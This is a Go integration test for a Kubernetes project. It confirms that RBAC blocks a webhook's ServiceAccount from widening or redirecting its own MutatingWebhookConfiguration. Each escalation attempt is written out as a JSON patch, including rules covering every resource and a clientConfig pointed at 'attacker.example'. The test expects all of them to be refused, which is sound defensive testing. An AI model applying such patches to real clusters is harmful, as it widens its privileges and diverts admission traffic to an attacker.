package scale

import (
	"context"
	"os"
	"reflect"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
)

// sizerWebhookFile is the sizer's MutatingWebhookConfiguration as shipped.
const sizerWebhookFile = "../../deploy/kustomize/sizer/webhook.yaml"

// The sizer cannot widen its own reach: with the RBAC of
// deploy/kustomize/sizer/rbac.yaml (installed by setup as shipped), the
// real API server refuses the sizer's ServiceAccount every read and write
// of its own webhook configuration — a patch of its rules (every
// resource), of its namespaceSelector (every namespace), of its
// failurePolicy, of its clientConfig (another endpoint) and of its
// caBundle, an update, a delete — and the creation of another. The
// configuration is unchanged afterwards. Its token does authenticate: it
// may get its CA Secret (NotFound here, not Forbidden) and no other.
// Before, the ClusterRole let it get and patch its own configuration
// (resourceNames cgwarden-sizer), rules included.
func TestSizerCannotWidenItsWebhook(t *testing.T) {
	e := lane(t)
	e.setup(t)
	ctx := context.Background()
	raw, err := os.ReadFile(sizerWebhookFile)
	if err != nil {
		t.Fatal(err)
	}
	obj, _, err := scheme.Codecs.UniversalDeserializer().Decode(raw, nil, nil)
	if err != nil {
		t.Fatalf("%s: %v", sizerWebhookFile, err)
	}
	mwc := obj.(*admissionregistrationv1.MutatingWebhookConfiguration)
	// Its real name (the one RBAC would name), called for no namespace
	// here: the lane's other tests create VM pods, which the shipped
	// selector would send to a Service that does not exist.
	mwc.Webhooks[0].NamespaceSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"cgwarden.io/test": "no-such-namespace"}}
	if _, err := e.cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mwc, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = e.cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(context.Background(), mwc.Name, metav1.DeleteOptions{})
	})
	before, err := e.cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(ctx, mwc.Name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}

	sizer, err := kubernetes.NewForConfig(e.serviceAccountConfig(t, sizerNamespace, sizerSA))
	if err != nil {
		t.Fatal(err)
	}
	mwcs := sizer.AdmissionregistrationV1().MutatingWebhookConfigurations()
	patch := func(pt types.PatchType, body string) func() error {
		return func() error {
			_, err := mwcs.Patch(ctx, mwc.Name, pt, []byte(body), metav1.PatchOptions{FieldManager: "cgwarden-sizer"})
			return err
		}
	}
	for _, c := range []struct {
		what string
		call func() error
	}{
		{"get", func() error { _, err := mwcs.Get(ctx, mwc.Name, metav1.GetOptions{}); return err }},
		{"list", func() error { _, err := mwcs.List(ctx, metav1.ListOptions{}); return err }},
		{"patch rules to every resource", patch(types.JSONPatchType,
			`[{"op":"replace","path":"/webhooks/0/rules","value":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*/*"],"scope":"*"}]}]`)},
		{"patch namespaceSelector to every namespace", patch(types.JSONPatchType, `[{"op":"replace","path":"/webhooks/0/namespaceSelector","value":{}}]`)},
		{"patch failurePolicy to Fail", patch(types.JSONPatchType, `[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Fail"}]`)},
		{"patch clientConfig to another endpoint", patch(types.JSONPatchType,
			`[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://attacker.example/mutate"}}]`)},
		{"patch caBundle", patch(types.JSONPatchType, `[{"op":"add","path":"/webhooks/0/clientConfig/caBundle","value":"Zm9v"}]`)},
		{"merge patch removing every webhook", patch(types.MergePatchType, `{"webhooks":null}`)},
		{"update", func() error { _, err := mwcs.Update(ctx, before.DeepCopy(), metav1.UpdateOptions{}); return err }},
		{"delete", func() error { return mwcs.Delete(ctx, mwc.Name, metav1.DeleteOptions{}) }},
		{"create another", func() error {
			o := mwc.DeepCopy()
			o.ResourceVersion, o.Name = "", "cgwarden-sizer-wider"
			_, err := mwcs.Create(ctx, o, metav1.CreateOptions{})
			return err
		}},
	} {
		if err := c.call(); !apierrors.IsForbidden(err) {
			t.Errorf("the sizer's %s of MutatingWebhookConfiguration %s: %v, want Forbidden", c.what, mwc.Name, err)
		} else {
			t.Logf("the sizer's %s: refused (%v)", c.what, err)
		}
	}
	// Its credentials work: what its Role grants is not refused.
	if _, err := sizer.CoreV1().Secrets(sizerNamespace).Get(ctx, "cgwarden-sizer-ca", metav1.GetOptions{}); apierrors.IsForbidden(err) {
		t.Errorf("the sizer's get of its CA Secret: %v, want allowed (NotFound here)", err)
	}
	if _, err := sizer.CoreV1().Secrets(sizerNamespace).Get(ctx, "other", metav1.GetOptions{}); !apierrors.IsForbidden(err) {
		t.Errorf("the sizer's get of another Secret: %v, want Forbidden", err)
	}

	after, err := e.cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(ctx, mwc.Name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if after.ResourceVersion != before.ResourceVersion || !reflect.DeepEqual(after.Webhooks, before.Webhooks) {
		t.Errorf("the webhook configuration changed: resourceVersion %s → %s", before.ResourceVersion, after.ResourceVersion)
	}
}
